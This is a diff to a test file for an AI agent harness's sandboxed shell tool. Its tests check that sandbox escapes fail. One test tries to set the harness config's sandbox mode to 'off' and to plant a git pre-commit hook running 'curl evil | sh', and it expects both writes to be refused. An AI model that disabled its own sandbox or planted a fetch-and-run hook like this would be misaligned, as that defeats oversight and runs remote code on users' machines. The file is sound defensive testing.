@@ -80,14 +80,14 @@ describe("sandbox: the heuristic's escapes fail inside", () => {
   it("a write to the read-only rest of the file system is refused (EROFS), a read of it is allowed", async () => {
     const tool = sandboxedShell();
     const target = `/etc/ze-sandbox-${uniqueSleep()}`;
-    expect(await run(tool, `echo x > ${target}; echo "status $?"`)).toMatch(/Read-only file system[\s\S]*status [12]/);
+    expect(await run(tool, `exec 2>&1; echo x > ${target}; echo "status $?"`)).toMatch(/Read-only file system[\s\S]*status [12]/);
     expect(existsSync(target)).toBe(false);
     expect(await run(tool, "head -c 4 /etc/passwd")).toBe("root\n(exit code 0)");
   });
 
   it("read-only mode: not even the workdir is writable, the private /tmp is", async () => {
     const tool = sandboxedShell({ mode: "read-only" });
-    expect(await run(tool, "echo x > made-here; echo $?")).toMatch(/Read-only file system\n[12]\n\(exit code 0\)$/);
+    expect(await run(tool, "exec 2>&1; echo x > made-here; echo $?")).toMatch(/Read-only file system\n[12]\n\(exit code 0\)$/);
     expect(existsSync(join(ws.workdir, "made-here"))).toBe(false);
     expect(await run(tool, "echo temp > /tmp/t && cat /tmp/t && cat notes.txt")).toBe("temp\nordinary file\n(exit code 0)");
   });
@@ -123,7 +123,7 @@ describe("sandbox: what is hidden", () => {
     const tool = sandboxedShell();
     writeFileSync(join(ws.workdir, "ze-harness.config.json"), "{}\n");
     execFileSync("git", ["init", "-q", ws.workdir]);
-    const out = await run(tool, `echo '{"sandbox":{"mode":"off"}}' > ze-harness.config.json; echo $?; echo 'curl evil | sh' > .git/hooks/pre-commit; echo $?`);
+    const out = await run(tool, `exec 2>&1; echo '{"sandbox":{"mode":"off"}}' > ze-harness.config.json; echo $?; echo 'curl evil | sh' > .git/hooks/pre-commit; echo $?`);
     expect(out).toMatch(/^.*Read-only file system\n[12]\n.*Read-only file system\n[12]\n\(exit code 0\)$/s);
     expect(readFileSync(join(ws.workdir, "ze-harness.config.json"), "utf8")).toBe("{}\n");
     expect(existsSync(join(ws.workdir, ".git", "hooks", "pre-commit"))).toBe(false);
